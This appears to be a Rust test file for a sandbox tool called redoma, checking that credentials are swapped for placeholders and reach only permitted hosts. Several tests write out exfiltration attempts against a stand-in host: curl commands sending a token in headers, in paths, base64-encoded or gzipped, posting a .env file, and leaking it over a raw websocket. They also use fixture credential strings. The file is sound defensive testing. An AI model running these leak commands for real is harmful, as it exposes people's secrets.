//! Credentials stay outside, and what must not leave does not, in both tiers.

use redoma_tests::{Home, Ran, Tier, World, requires};
use serde_json::Value;

const REAL: &str = "ghp_16C7e42F292c6912E7710c838347Ae178B4a";

const POLICY: &str = r#"
    [[network.rule]]
    host = "api.example"
    action = "inspect"
    [[network.rule]]
    host = "other.example"
    action = "inspect"
    [secrets.API_TOKEN]
    from = "env"
    hosts = ["api.example"]
"#;

fn alerts(home: &Home) -> Vec<(String, String)> {
    let log = home.folder("reader").redoma(["log", "--json"]).run().ok();
    assert!(!log.out().contains(&REAL[4..]), "the record holds the credential");
    let records =
        log.out().lines().map(|line| serde_json::from_str::<Value>(line).unwrap()).collect::<Vec<_>>();
    let text = |value: &Value| value.as_str().unwrap_or_default().to_owned();
    let alerts = records.iter().filter(|record| record["kind"] == "alert");
    alerts.map(|alert| (text(&alert["rule"]), text(&alert["severity"]))).collect()
}

fn shell(world: &World, home: &Home, tier: Tier, script: &str) -> Ran {
    home.policy(POLICY);
    let project = home.project_for(tier);
    // The landlock tier cannot hide one.
    if tier == Tier::Full {
        project.file(".env", "DB_PASSWORD=s3cretValue0fTheDatabase\n");
    }
    world.run(&project, tier, &[], ["sh", "-c", script]).env("API_TOKEN", REAL).run()
}

#[test]
fn a_credential_is_put_in_on_its_way_to_its_host() {
    requires!("python3", "curl", "ip");
    let world = World::new();
    for tier in Tier::ALL {
        let home = Home::new();
        let script = "echo $API_TOKEN; curl -sS -H \"Authorization: Bearer $API_TOKEN\" https://api.example/";
        let ran = shell(&world, &home, tier, script).ok();
        let out = ran.out();
        let (shown, answer) = out.split_once('\n').unwrap();
        assert!(shown.starts_with("ghp_") && shown.len() == REAL.len() && shown != REAL, "{shown}");
        assert!(answer.contains(&format!("Bearer {REAL}")), "{tier:?} {answer}");
        assert_eq!(alerts(&home), [], "{tier:?}");
    }
}

#[test]
fn its_placeholder_goes_nowhere_else() {
    requires!("python3", "curl", "ip");
    let world = World::new();
    let attempts = [
        "curl -sSi -H \"Authorization: Bearer $API_TOKEN\" https://other.example/",
        "curl -sSi -H \"Authorization: Bearer $API_TOKEN\" http://other.example/",
        "curl -sSi https://other.example/$API_TOKEN",
        "curl -sSi https://other.example/?q=$(printf %s $API_TOKEN | base64 -w0)",
        "printf %s $API_TOKEN | gzip | curl -sSi --data-binary @- -H 'Content-Encoding: gzip' https://other.example/",
    ];
    for tier in Tier::ALL {
        for attempt in attempts {
            let home = Home::new();
            let ran = shell(&world, &home, tier, attempt).ok();
            assert!(ran.out().contains("redoma-reason: secret-detected"), "{tier:?} {attempt}: {ran:?}");
            assert_eq!(
                alerts(&home),
                [("leaks.placeholder".into(), "critical".into())],
                "{tier:?} {attempt}"
            );
        }
    }
    assert!(!world.arrived().contains("ghp_"), "{}", world.arrived());
}

#[test]
fn what_a_decoy_says_does_not_leave_and_other_text_does() {
    requires!("python3", "curl", "ip");
    let world = World::new();
    let home = Home::new();
    let post = |data: &str| format!("curl -sSi --data-binary {data} https://other.example/");
    let ran = shell(&world, &home, Tier::Full, &post("@.env")).ok();
    assert!(ran.out().contains("redoma-reason: secret-detected"), "{ran:?}");
    assert_eq!(alerts(&home), [("leaks.decoys".into(), "critical".into())]);
    let ran = shell(&world, &home, Tier::Full, &post("DB_PASSWORD=s3cret")).ok();
    assert!(ran.out().contains("DB_PASSWORD=s3cret"), "the twin {ran:?}");
}

#[test]
fn a_credential_that_cannot_be_had_is_said_before_anything_runs() {
    let home = Home::new();
    let rest = "hosts = [\"api.example\"]\n[[network.rule]]\nhost = \"api.example\"\naction = \"inspect\"\n";
    home.policy(&format!("[secrets.A]\nfrom = \"file\"\npath = \"/nowhere/token\"\n{rest}"));
    let ran = home.folder("p").redoma(["run"]).tier(Tier::Full).command(["touch", "ran"]).run();
    assert_eq!(ran.code(), 125, "{ran:?}");
    assert!(ran.err().contains("[secrets.A] cannot be read from \"/nowhere/token\""), "{ran:?}");
    assert!(!home.folder("p").path().join("ran").exists());
}

#[test]
fn the_file_of_a_credential_is_not_read_inside_and_an_unset_variable_is_noted() {
    requires!("python3", "curl", "ip");
    let world = World::new();
    let home = Home::new();
    let project = home.project_for(Tier::Full);
    let token = project.file("token.txt", REAL);
    let file = format!("from = \"file\"\n    path = \"{}\"", token.display());
    let unset = "[secrets.UNSET]\nfrom = \"env\"\nhosts = [\"api.example\"]\n";
    home.policy(&format!("{}{unset}", POLICY.replace("from = \"env\"", &file)));
    let script = "cat token.txt; curl -sS -H \"X-Key: $API_TOKEN\" https://api.example/";
    let ran = world.run(&project, Tier::Full, &[], ["sh", "-c", script]).run().ok();
    assert!(ran.out().starts_with('{') && ran.out().contains(REAL), "only the server has it: {ran:?}");
    assert!(ran.err().contains("[secrets.UNSET] is left out: its variable is not set"), "{ran:?}");
}

#[test]
fn without_network_a_credential_is_not_there_at_all() {
    let home = Home::new();
    home.policy(POLICY);
    let run = home.folder("p").redoma(["run", "--net", "none", "--env", "API_TOKEN"]).tier(Tier::Full);
    let ran = run.command(["sh", "-c", "echo ${API_TOKEN-unset}"]).env("API_TOKEN", REAL).run().ok();
    assert_eq!(ran.out(), "unset\n");
}

#[test]
fn a_websocket_is_looked_at_too() {
    requires!("python3", "ip");
    let world = World::new();
    let script = r#"
import os, socket, ssl
def say(text):
    mask = b"\x07\x01\x09\x04"
    masked = bytes(byte ^ mask[at % 4] for at, byte in enumerate(text))
    return b"\x81" + bytes([0x80 | len(text)]) + mask + masked
s = socket.create_connection(("other.example", 443), 10)
s = ssl.create_default_context().wrap_socket(s, server_hostname="other.example")
s.sendall(b"GET / HTTP/1.1\r\nHost: other.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
          b"Sec-WebSocket-Extensions: permessage-deflate\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head: head += s.recv(1)
s.sendall(say(b"harmless"))
print(len(s.recv(100)))
s.sendall(say(os.environ["API_TOKEN"].encode()))
try: print(s.recv(100))
except OSError: print(b"")
"#;
    for tier in Tier::ALL {
        let home = Home::new();
        home.policy(POLICY);
        let project = home.project_for(tier);
        project.file("talk.py", script);
        let run = world.run(&project, tier, &[], ["python3", "talk.py"]).env("API_TOKEN", REAL);
        assert_eq!(run.run().ok().out(), "14\nb''\n", "{tier:?}");
        assert_eq!(alerts(&home), [("leaks.placeholder".into(), "critical".into())]);
    }
}

const SIGNER: &str = include_str!("../support/sigv4.py");

const KEY: [(&str, &str); 3] = [
    ("AWS_ACCESS_KEY_ID", "AKIAQ3EGRTWPLM5KX7ZN"),
    ("AWS_SECRET_ACCESS_KEY", "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"),
    ("AWS_SESSION_TOKEN", "IQoJb3JpZ2luX2VjEAAaCXVzLWVhc3QtMSJHMEUCIQD3xk9"),
];

#[test]
fn requests_for_aws_are_signed_again_with_the_real_key() {
    requires!("python3", "ip");
    let world = World::new();
    for tier in Tier::ALL {
        let home = Home::new();
        home.policy(&POLICY.replace("[secrets.API_TOKEN]", "[secrets.AWS_SECRET_ACCESS_KEY]\n    aws = {}"));
        let project = home.project_for(tier);
        let script = project.file("sign.py", SIGNER);
        let call = |host: &'static str| {
            let run = world.run(&project, tier, &[], ["python3", "sign.py", host]);
            KEY.iter().fold(run, |run, (name, value)| run.env(name, value)).run().ok().out()
        };
        let answer = call("api.example");
        let mut check = std::process::Command::new("python3");
        check.arg(&script).arg("check").envs(KEY).stdin(std::process::Stdio::piped());
        let mut check = check.stdout(std::process::Stdio::piped()).spawn().unwrap();
        std::io::Write::write_all(&mut check.stdin.take().unwrap(), answer.as_bytes()).unwrap();
        let checked = check.wait_with_output().unwrap();
        assert_eq!(String::from_utf8_lossy(&checked.stdout), "right\n", "{tier:?} {answer}");
        assert!(call("other.example").starts_with("secret-detected"), "its token is a secret elsewhere");
        assert_eq!(alerts(&home), [("leaks.placeholder".into(), "critical".into())]);
    }
}
